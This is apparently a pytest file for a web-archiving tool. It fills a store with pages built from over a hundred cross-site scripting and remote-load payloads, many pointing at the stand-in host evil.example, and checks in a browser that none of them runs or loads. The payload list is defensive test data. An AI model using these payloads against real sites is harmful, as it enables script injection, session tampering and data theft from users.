"""Pages that would do harm: stored, shown in the frame, read as a story; in a real browser nothing of them runs or loads."""

from pathlib import Path
from typing import Any

import pytest
from tests import needs
from tests.serve.conftest import options, store
from tests.serve.test_browser import address, browser, page

from sitewright.maps import parse_map
from sitewright.reading.item import read_page
from sitewright.store.database import Store, open_store
from sitewright.store.entries import Collected
from sitewright.store.warc import WarcStore
from sitewright.types import Limits, Page

pytestmark = [needs.browser, pytest.mark.slow]
HARM = [
    "<script>document.title='harmed'</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import '//evil.example/x.js'</script>",
    "<script type=importmap>{\"imports\": {\"/static/keys.js\": \"//evil.example/x.js\"}}</script>",
    "<img src=x onerror=\"document.title='harmed'\">",
    "<img src=//evil.example/pixel>",
    "<svg onload=\"document.title='harmed'\"><script>1</script></svg>",
    "<svg><use href='//evil.example/a.svg#x'></use><image href=//evil.example/y /></svg>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:1'>x</maction></math>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc=\"<script>parent.document.title='harmed'</script>\"></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<meta http-equiv=refresh content='0; url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/b) }</style>",
    "<p style=\"background: url(//evil.example/c)\">styled</p>",
    "<style>input[value^=a] { background: url(//evil.example/d) }</style>",
    "<form action=//evil.example><input name=a value=b autofocus onfocus=\"document.title='harmed'\"><button>x</button></form>",
    "<a href=\"javascript:document.title='harmed'\">link</a>",
    "<a href=//evil.example ping=//evil.example/ping>link</a>",
    "<video src=//evil.example/v autoplay poster=//evil.example/p></video>",
    "<audio src=//evil.example/a autoplay></audio>",
    "<details open ontoggle=\"document.title='harmed'\"><summary>x</summary></details>",
    "<body onload=\"document.title='harmed'\">",
    "<div id=main name=token><form id=marks></form></div>",
    "<template><script>document.title='harmed'</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=document.title='harmed'>\">",
    "<table background=//evil.example/t><tr><td background=//evil.example/u>x</table>",
    "<marquee onstart=\"document.title='harmed'\">x</marquee>",
    "<portal src=//evil.example></portal>",
    "<picture><source srcset=//evil.example/s><img srcset='//evil.example/s 2x'></picture>",
    "<input type=image src=//evil.example/i>",
    "<isindex action=//evil.example>",
    "<x-a><template shadowrootmode=open><style>:host{background:url(//evil.example/h)}</style></template></x-a>",
    "<p>]]><!--><img src=x onerror=document.title='harmed'>--></p>",
    "<textarea></textarea><img src=x onerror=document.title='harmed'></textarea>",
    "<button formaction=\"javascript:document.title='harmed'\" form=marks>x</button>",
    "<script>window.name='x';document.title='harmed'</script >",
    "<SCRIPT SRC=//evil.example/X.JS></SCRIPT>",
    "<script/x>document.title='harmed'</script>",
    "<scr<script>ipt>document.title='harmed'</script>",
    "<script type=text/template></script><script>document.title='harmed'</script>",
    "<script type=speculationrules>{\"prefetch\": [{\"source\": \"list\", \"urls\": [\"//evil.example/s\"]}]}</script>",
    "<script nonce=x src=data:text/javascript,document.title='harmed'></script>",
    "<script>/*<!--*/document.title='harmed'//--></script>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><script>document.title='harmed'</script></svg>",
    "<svg><animate onbegin=\"document.title='harmed'\" attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:document.title='harmed' begin=0s>",
    "<svg><foreignObject><img src=x onerror=\"document.title='harmed'\"></foreignObject></svg>",
    "<svg><style>@import url(//evil.example/svg.css);</style></svg>",
    "<svg><filter><feImage href=//evil.example/f /></filter></svg>",
    "<svg><a xlink:href=\"javascript:document.title='harmed'\"><text>x</text></a></svg>",
    "<svg><image xlink:href=//evil.example/xlink /></svg>",
    "<svg style=\"background: url(//evil.example/svgb)\"></svg>",
    "<svg></p><style><a title=\"</style><img src=x onerror=document.title='harmed'>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=document.title='harmed'></style></mglyph></table></mtext></math>",
    "<math href=\"javascript:document.title='harmed'\">x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=document.title='harmed'></annotation-xml></math>",
    "<img src=\"x` `<script>document.title='harmed'</script>\">",
    "<img/src=x/onerror=document.title='harmed'>",
    "<img src=x:x onerror=document.title='harmed' //>",
    "<img src=data:image/svg+xml,%3Csvg%20onload=document.title='harmed'%3E>",
    "<img srcset='//evil.example/1 1x, //evil.example/2 2x' sizes=100vw>",
    "<img src=//evil.example/lazy loading=eager fetchpriority=high>",
    "<img usemap=#m src=x><map name=m><area href=\"javascript:document.title='harmed'\" shape=default></map>",
    "<image src=//evil.example/image>",
    "<iframe src=\"javascript:parent.document.title='harmed'\"></iframe>",
    "<iframe src=data:text/html,<script>parent.document.title='harmed'</script>></iframe>",
    "<iframe srcdoc='<img src=//evil.example/srcdoc>'></iframe>",
    "<iframe name=x src=about:blank onload=\"document.title='harmed'\"></iframe>",
    "<frameset onload=\"document.title='harmed'\"><frame src=//evil.example></frameset>",
    "<object type=text/html data=//evil.example/o><param name=movie value=//evil.example/m></object>",
    "<applet code=x archive=//evil.example/a.jar></applet>",
    "<embed src=\"javascript:document.title='harmed'\">",
    "<meta http-equiv=set-cookie content='session=stolen'>",
    "<meta http-equiv=content-security-policy content=\"script-src *\">",
    "<meta http-equiv=refresh content=\"0; url=javascript:document.title='harmed'\">",
    "<meta http-equiv=refresh content=\"0; url=data:text/html,harmed\">",
    "<base target=_top href=javascript:1/>",
    "<link rel=stylesheet href=data:text/css,*{background:url(//evil.example/dc)}>",
    "<link rel=preload as=image href=//evil.example/pre><link rel=preconnect href=//evil.example>",
    "<link rel=dns-prefetch href=//evil.example><link rel=modulepreload href=//evil.example/m.js>",
    "<link rel=icon href=//evil.example/i.ico><link rel=manifest href=//evil.example/m.json>",
    "<link rel=import href=//evil.example/import.html>",
    "<style>@font-face { font-family: f; src: url(//evil.example/f) } * { font-family: f }</style>",
    "<style>body::after { content: url(//evil.example/content) }</style>",
    "<style>*{list-style:url(//evil.example/ls);cursor:url(//evil.example/cu),auto}</style>",
    "<style>a[href^='http']{background:image-set('//evil.example/is' 1x)}</style>",
    "<p style=\"position:fixed;inset:0;z-index:9999;background:url(//evil.example/over)\">over all</p>",
    "<div style=\"width:expression(document.title='harmed');behavior:url(//evil.example/b.htc)\">x</div>",
    "<form id=marks action=javascript:document.title='harmed'><input type=submit autofocus></form>",
    "<form><button formaction=//evil.example type=submit autofocus>x</button></form><input form=marks name=star>",
    "<a href=\"java&#10;script:document.title='harmed'\">x</a><a href=\"\x01javascript:document.title='harmed'\">y</a>",
    "<a href=\"data:text/html,<script>opener.document.title='harmed'</script>\" target=_blank rel=opener>x</a>",
    "<a href=vbscript:x>x</a><a href=blob:x>y</a><a href=filesystem:x>z</a><a id=body name=body href=#x>w</a>",
    "<video><source src=//evil.example/vs onerror=\"document.title='harmed'\"><track src=//evil.example/tr default></video>",
    "<x contenteditable autofocus tabindex=0 onfocus=\"document.title='harmed'\">x</x>",
    "<p onpointerover=\"document.title='harmed'\" onanimationstart=\"document.title='harmed'\" accesskey=x>p</p>",
    "<xmp><img src=x onerror=document.title='harmed'></xmp>",
    "<title></title><img src=x onerror=document.title='harmed'></title>",
    "<select><style></select><img src=x onerror=document.title='harmed'></style></select>",
    "<p popover id=told onbeforetoggle=\"document.title='harmed'\">x</p><button popovertarget=told>x</button>",
    "<img name=getElementById src=x><img name=querySelector src=x><form name=body><input name=dataset></form>",
    "<dialog open id=keys onclose=\"document.title='harmed'\"><form method=dialog><button autofocus>x</button></form></dialog>",
    "<object id=main data=data:text/html,<script>top.document.title='harmed'</script>></object>",
    "\u2028<script>\u2029document.title='harmed'</script>\u202e",
    "<plaintext><img src=x onerror=document.title='harmed'>",
]  # fmt: skip
SWALLOWS = ("<frameset", "<plaintext")
"""In a head they would leave nothing else of the page."""
TITLES = [
    "<img src=x onerror=document.title='harmed'>",
    "{{ 7*7 }}</title><script>1</script>",
    '"><svg onload=1>',
    "\u202egnp.exe",
]
PAGES = 10
"""So many pages share them: each begins with another."""
MAP = """\
sitewright: 1
site: evil.example
templates:
  - name: article
    rules:
      title: {select: [h1]}
      subtitle: {select: [h2]}
      text: {select: ["div.text > *"], many: true}
      authors: {select: [".by"], many: true}
      tags: {select: [".tag"], many: true}
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """Return a folder whose store holds nothing but hostile pages."""
    with (
        open_store(f"sqlite:///{tmp_path}/sitewright.db") as opened,
        WarcStore(tmp_path / "sitewright-pages") as archive,
    ):
        opened.add_site("evil.example", url="https://evil.example/")
        opened.save_map(MAP, "person")
        made = [hostile(number, HARM[number::PAGES]) for number in range(PAGES)]
        places = archive.append_all(made)
        opened.commit_pages(
            [
                Collected(record=read_page(Limits(), one, parse_map(MAP)).record, page=one, location=place)
                for one, place in zip(made, places, strict=True)
            ]
        )
    return tmp_path


def hostile(number: int, own: list[str]) -> Page:
    harm, head = "\n".join(own), "\n".join(one for one in own if not one.startswith(SWALLOWS))
    title = TITLES[number % len(TITLES)].replace("<", "&lt;")
    html = (
        f"<html lang=en><head>{head}</head><h1>{title} {number}</h1><h2>{title}</h2><p class=by>{title}</p><b class=tag>{title}</b>"
        f"<div class=text><p>Words before it.</p>{harm}<p>Words behind it, number {number}.</p></div>"
    )
    return Page(url=f"https://evil.example/{number}", body=html.encode(), via="http")


def test_nothing_of_them_runs_or_loads(page: Any, store: Store) -> None:
    ids = [one.id for one in store.records()]
    assert len(HARM) >= 100
    assert len(ids) == PAGES
    for path in ("/", "/search?q=words", "/records", "/site/evil.example"):
        page.goto(path)
        assert "harmed" not in page.title()
    for name in ids:
        for kind in ("story", "explain"):  # which has the frame
            page.goto(f"/{kind}/evil.example/{name}")
            assert page.title() != "harmed"
            assert page.evaluate("document.querySelectorAll('main iframe:not(.page), object, embed, base').length") == 0
    page.wait_for_timeout(200)
    assert page.foreign == []


__all__ = ["address", "browser", "options", "page", "store"]
